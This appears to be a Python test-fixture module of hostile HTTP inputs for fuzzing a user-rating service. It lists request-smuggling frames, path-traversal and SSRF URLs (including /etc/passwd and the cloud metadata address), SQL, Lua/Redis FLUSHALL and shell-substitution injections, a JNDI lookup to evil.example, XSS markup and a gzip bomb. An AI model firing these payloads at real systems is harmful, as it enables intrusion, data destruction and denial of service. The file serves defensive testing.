"""What is thrown at the wire: requests within requests, broken heads, odd addresses, hosts and chains of proxies."""

from __future__ import annotations

import gzip

JSON_LINE = b"Content-Type: application/json\r\n"
SMUGGLED_WRITE = (
    b"PUT /users/victim/rating HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 15\r\n"
    b'Connection: close\r\n\r\n{"rating":1501}'
)
_POST = b"POST /users HTTP/1.1\r\nHost: x\r\n" + JSON_LINE
_CHUNKED = b"Transfer-Encoding: chunked\r\n"

# A request around another: if two parties disagree about where it ends, `<SMUGGLED>` is carried out.
SMUGGLED: dict[str, bytes] = {
    "a length, then chunks": _POST + b"Content-Length: 6\r\n" + _CHUNKED + b"\r\n0\r\n\r\n<SMUGGLED>",
    "chunks, then a length": _POST + _CHUNKED + b"Content-Length: 6\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "a length that covers it, and chunks": _POST + b"Content-Length: 300\r\n" + _CHUNKED + b"\r\n0\r\n\r\n<SMUGGLED>",
    "two lengths": _POST + b"Content-Length: 0\r\nContent-Length: 300\r\n\r\n<SMUGGLED>",
    "two lengths the other way": _POST + b"Content-Length: 300\r\nContent-Length: 0\r\n\r\n<SMUGGLED>",
    "two lengths in one line": _POST + b"Content-Length: 0, 300\r\n\r\n<SMUGGLED>",
    "a length with a plus": _POST + b"Content-Length: +0\r\n\r\n<SMUGGLED>",
    "a hexadecimal length": _POST + b"Content-Length: 0x0\r\n\r\n<SMUGGLED>",
    "a length of 2^64": _POST + b"Content-Length: 18446744073709551616\r\n\r\n<SMUGGLED>",
    "an empty length": _POST + b"Content-Length:\r\n\r\n<SMUGGLED>",
    "a length in Arabic digits": _POST + "Content-Length: \u0660\r\n\r\n".encode() + b"<SMUGGLED>",
    "a space before the colon": _POST + b"Content-Length : 0\r\n\r\n<SMUGGLED>",
    "a tab before the colon": _POST + b"Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "a space before the name": _POST + b" Content-Length: 0\r\n\r\n<SMUGGLED>",
    "a folded coding": _POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "a folded length": _POST + b"Content-Length: 1\r\n 0\r\n\r\n<SMUGGLED>",
    "a vertical tab": _POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "a coding in quotes": _POST + b'Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n<SMUGGLED>',
    "chunked, then another": _POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "chunked in HTTP/1.0": b"POST /users HTTP/1.0\r\n" + JSON_LINE + _CHUNKED + b"\r\n0\r\n\r\n<SMUGGLED>",
    "nearly chunked": _POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "chunked with NUL": _POST + b"Transfer-Encoding: chunked\x00\r\n\r\n0\r\n\r\n<SMUGGLED>",
    "a bare LF in a value": _POST + b"X-A: b\nTransfer-Encoding: cow\r\nContent-Length: 300\r\n\r\n<SMUGGLED>",
    "a bare CR in a value": _POST + b"X-A: b\rContent-Length: 0\r\nContent-Length: 300\r\n\r\n<SMUGGLED>",
    "a bare CR behind a chunk": _POST + _CHUNKED + b"\r\n2\r{}0\r\r<SMUGGLED>",
    "a bare LF behind a chunk's length": _POST + _CHUNKED + b"\r\n2\n{}\r\n0\r\n\r\n",
    "a chunk's length with a plus": _POST + _CHUNKED + b"\r\n+2\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a chunk's length with 0x": _POST + _CHUNKED + b"\r\n0x2\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a chunk's length with an underscore": _POST + _CHUNKED + b"\r\n0_2\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a negative chunk": _POST + _CHUNKED + b"\r\n-2\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a chunk of 2^64+2": _POST + _CHUNKED + b"\r\n10000000000000002\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a chunk of 17 digits": _POST + _CHUNKED + b"\r\n00000000000000002\r\n{}\r\n0\r\n\r\n",
    "an empty chunk's length": _POST + _CHUNKED + b"\r\n\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a chunk longer than it says": _POST + _CHUNKED + b"\r\n1\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a line end in an extension": _POST + _CHUNKED + b"\r\n2;a=\nx\r\n{}\r\n0\r\n\r\n<SMUGGLED>",
    "a write in an extension": _POST + _CHUNKED + b'\r\n2;a="\r\n<SMUGGLED>"\r\n{}\r\n0\r\n\r\n',
    "a write in a trailer": _POST + _CHUNKED + b"\r\n2\r\n{}\r\n0\r\nX: y\r\n <SMUGGLED>",
}

_GET = b"GET /users/victim HTTP/1.1\r\nHost: x\r\n"

# Odd, but one request for everybody who keeps to RFC 9112.
ODD_FRAMES: dict[str, bytes] = {
    "empty lines before": b"\r\n\r\n" + _GET + b"\r\n",
    "only LF": b"GET /users/victim HTTP/1.1\nHost: x\n\n",
    "an equal length twice": _GET + b"Content-Length: 0\r\nContent-Length: 0\r\n\r\n",
    "leading zeros": _GET + b"Content-Length: 0000000000000000\r\n\r\n",
    "a body that nobody reads": _GET + b"Content-Length: 3\r\n\r\nabc",
    "chunks that nobody reads": _GET + _CHUNKED + b"\r\n3\r\nabc\r\n0\r\n\r\n",
    "an extension": _GET + _CHUNKED + b'\r\n3;a=b;c="d"\r\nabc\r\n0;e\r\n\r\n',
    "a trailer": _GET + _CHUNKED + b"\r\n3\r\nabc\r\n0\r\nContent-Length: 5\r\nHost: y\r\n\r\n",
    "a coding in capitals": _GET + b"Transfer-Encoding: CHUNKED\r\n\r\n0\r\n\r\n",
    "another coding, then chunked": _GET + b"Transfer-Encoding: cow, chunked\r\n\r\n0\r\n\r\n",
    "keep-alive of version 1.0": b"GET /users/victim HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
}

BROKEN_HEADS: dict[str, bytes] = {
    "HTTP/0.9": b"GET /users/victim\r\n\r\n",
    "HTTP/1.2": b"GET /users/victim HTTP/1.2\r\nHost: x\r\n\r\n",
    "HTTP/2.0": b"GET /users/victim HTTP/2.0\r\nHost: x\r\n\r\n",
    "HTTP/11": b"GET /users/victim HTTP/11\r\nHost: x\r\n\r\n",
    "http/1.1": b"GET /users/victim http/1.1\r\nHost: x\r\n\r\n",
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    "half a preface": b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
    "no method": b" /users/victim HTTP/1.1\r\nHost: x\r\n\r\n",
    "a method of letters that are none": "G\u00cbT /users/victim HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
    "a method of NUL": b"G\x00T /users/victim HTTP/1.1\r\nHost: x\r\n\r\n",
    "a method of 60000 letters": b"G" * 60_000 + b" /users/victim HTTP/1.1\r\nHost: x\r\n\r\n",
    "an unknown method": b"BREW /users/victim HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "CONNECT": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n",
    "TRACE": b"TRACE /users/victim HTTP/1.1\r\nHost: x\r\nCookie: a=b\r\nConnection: close\r\n\r\n",
    "a fragment of a line": b"\r",
    "only a colon": b"GET /users/victim HTTP/1.1\r\n:\r\n\r\n",
    "an empty name": b"GET /users/victim HTTP/1.1\r\n: x\r\n\r\n",
    "a name with NUL": b"GET /users/victim HTTP/1.1\r\nX\x00A: b\r\n\r\n",
    "a name beyond ASCII": b"GET /users/victim HTTP/1.1\r\nX-\xc3\xa9: b\r\n\r\n",
    "a value with NUL": b"GET /users/victim HTTP/1.1\r\nX-A: a\x00b\r\n\r\n",
    "a value with a bare CR": b"GET /users/victim HTTP/1.1\r\nX-A: a\rb\r\n\r\n",
    "a folded value": b"GET /users/victim HTTP/1.1\r\nX-A: a\r\n b\r\n\r\n",
    "a first line that is folded": b"GET /users/victim HTTP/1.1\r\n X-A: a\r\n\r\n",
    "a tab for a space": b"GET\t/users/victim\tHTTP/1.1\r\nHost: x\r\n\r\n",
    "a name of 60000 letters": b"GET /users/victim HTTP/1.1\r\n" + b"X" * 66_000 + b": b\r\n\r\n",
    "1000 headers": b"GET /users/victim HTTP/1.1\r\n" + b"X-A: b\r\n" * 1000 + b"\r\n",
    "an unknown expectation": b"POST /users HTTP/1.1\r\nHost: x\r\nExpect: a-miracle\r\nContent-Length: 0\r\n"
    b"Connection: close\r\n\r\n",
    "SSH": b"SSH-2.0-OpenSSH_9.6\r\n\r\n",
    "SMTP": b"EHLO evil.example\r\n\r\n",
    "Redis": b"*1\r\n$8\r\nFLUSHALL\r\n\r\n",
    "Postgres": b"\x00\x00\x00\x08\x04\xd2\x16\x2f\r\n\r\n",
    "TLS 1.3": bytes.fromhex("160301004f0100004b0303") + b"\xaa" * 80 + b"\r\n\r\n",
}

# Ways to spell another address, a file, or another host.
NO_TARGETS: dict[str, bytes] = {
    "dots": b"/users/../users/victim",
    "dots in escapes": b"/users/%2e%2e/users/victim",
    "dots and an escaped slash": b"/users/..%2fusers%2fvictim",
    "dots twice encoded": b"/users/%252e%252e/users/victim",
    "one dot": b"/users/./victim",
    "one dot in an escape": b"/users/%2e/victim",
    "to a file": b"/../../../../etc/passwd",
    "to a file in escapes": b"/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "to a file with backslashes": b"/..%5c..%5c..%5cetc%5cpasswd",
    "to a file in overlong UTF-8": b"/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "an overlong slash": b"/users%c0%afvictim",
    "an overlong slash of three bytes": b"/users%e0%80%afvictim",
    "a full-width slash": b"/users%ef%bc%8fvictim",
    "two slashes": b"/users//victim",
    "two slashes before": b"//users/victim",
    "a host behind two slashes": b"//evil.example/users/victim",
    "a slash behind": b"/users/victim/",
    "an escaped slash": b"/users%2Fvictim",
    "an escaped slash twice encoded": b"/users%252Fvictim",
    "a backslash": b"/users\\victim",
    "an escaped backslash": b"/users%5Cvictim",
    "a parameter of the path": b"/users;x=1/victim",
    "a parameter behind": b"/users/victim;x=1",
    "NUL behind": b"/users/victim%00",
    "NUL and a suffix": b"/users/victim%00.css",
    "a suffix": b"/users/victim/x.css",
    "a new line": b"/users/victim%0d%0aX-Injected:%20yes",
    "another case": b"/USERS/victim",
    "an escaped letter": b"/users/victim%",
    "half an escape": b"/users/victi%6",
    "an escape that is none": b"/users/victi%6g",
    "an escape of the IIS": b"/users/victi%u006d",
    "a star": b"*",
    "nothing before": b"users/victim",
    "a question": b"?users/victim",
    "a fragment": b"/users/nobody#/../victim",
    "a URL of another host": b"http://evil.example/users/nobody",
    "a URL of the metadata": b"http://169.254.169.254/latest/meta-data/",
    "a URL with a password": b"http://admin:secret@localhost/users/nobody",
    "a URL of another scheme": b"ftp://localhost/users/nobody",
    "a URL of a file": b"file:///etc/passwd",
    "an authority": b"evil.example:443",
    "an open bracket": b"http://[::1/users/victim",
}

FORWARDING = (
    "X-Forwarded-For", "Forwarded", "X-Real-IP", "X-Client-IP", "CF-Connecting-IP", "True-Client-IP",
    "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "X-Cluster-Client-IP", "Via",
)  # fmt: skip

CHAINS: dict[str, bytes] = {
    "an address": b"198.51.100.1",
    "a chain": b"127.0.0.1, 198.51.100.1, 10.0.0.1",
    "the service itself": b"127.0.0.1",
    "IPv6": b'for="[2001:db8::1]:80", 198.51.100.1',
    "an address that is none": b"999.999.999.999",
    "empty": b"",
    "commas": b"," * 5000,
    "5000 addresses": b"198.51.100.1, " * 3000,
    "SQL": b"' OR 1=1 --",
    "Lua": b"]] redis.call('FLUSHALL') --",
    "not ASCII": b"\xff\xfe\x80",
    "a zone": b"fe80::1%eth0",
}

HOSTS: dict[str, bytes] = {
    "none": b"",
    "another": b"Host: evil.example\r\n",
    "two": b"Host: ladder.test\r\nHost: evil.example\r\n",
    "empty": b"Host:\r\n",
    "a path": b"Host: evil.example/users\r\n",
    "a name": b"Host: admin@evil.example\r\n",
    "a port that is none": b"Host: evil.example:99999999\r\n",
    "an open bracket": b"Host: [::1\r\n",
    "NUL in an escape": b"Host: evil%00.example\r\n",
    "not ASCII": b"Host: \xff\xfe\r\n",
    "60000 letters": b"Host: " + b"a" * 60_000 + b"\r\n",
    "a forwarded one": b"Host: ladder.test\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n",
    "a script": b"Host: <script>evil</script>\r\n",
}

# Headers of a write, of which each alone might do.
DOUBLED: dict[str, list[tuple[str, bytes]]] = {
    "types": [("Content-Type", b"application/json"), ("Content-Type", b"text/plain")],
    "tags": [("Content-Type", b"application/json"), ("If-Match", b'"v0"'), ("If-Match", b'W/"v1"')],
    "a type and a coding": [("Content-Type", b"application/json"), ("Content-Encoding", b"gzip")],
    "codings": [
        ("Content-Type", b"application/json"),
        ("Content-Encoding", b"identity"),
        ("Content-Encoding", b"gzip"),
    ],
}

INJECTIONS: dict[str, bytes] = {
    "a quote": b"'",
    "two quotes": b"''",
    "a double quote": b'"',
    "a quote and OR": b"x' OR 'a'='a",
    "a union": b"x' UNION SELECT id, username FROM users --",
    "two statements": b"x'; DELETE FROM users; --",
    "a statement in dollars": b"$$; DELETE FROM users; $$",
    "a sleep": b"x' || pg_sleep(10) || '",
    "a copy": b"x'; COPY users TO PROGRAM 'id'; --",
    "a cast": b"x'::int",
    "placeholders": b"%s %(id)s $1 :id ? {0}",
    "a comment": b"/**/x--\n",
    "a backslash and a quote": b"\\' OR 1=1 --",
    "multibyte before a quote": b"\xbf' OR 1=1 --".decode("latin-1").encode(),
    "Lua's end of a string": b'"] redis.call("FLUSHALL") --[["',
    "Lua's long string": b"]==] redis.call('FLUSHALL') --[==[",
    "Lua's pattern": b"(.*)%1%f[%a]",
    "KEYS": b"KEYS[1]",
    "RESP": b"\r\nFLUSHALL\r\n",
    "RESP in full": b"*1\r\n$8\r\nFLUSHALL\r\n",
    "the mirror's key": b"{ladder}:board",
    "the mirror's fields": b"1|2~3,4;5",
    "a glob": b"*?[a-z]",
    "a shell": b"$(id) `id` ; id | id & id",
    "a template": b"{{7*7}} ${7*7} <%= 7*7 %>",
    "a lookup": b"${jndi:ldap://evil.example/a}",
    "markup": b"<img src=x onerror=alert(1)>",
    "LDAP": b"*)(uid=*))(|(uid=*",
    "a path": b"../../../etc/passwd",
    "NUL": b"victim\x00",
    "a line end": b"victim\r\nX-Injected: yes",
    "an escape of a terminal": b"\x1b]0;evil\x07",
}

BOMB = gzip.compress(b" " * (60 * 1024 * 1024))
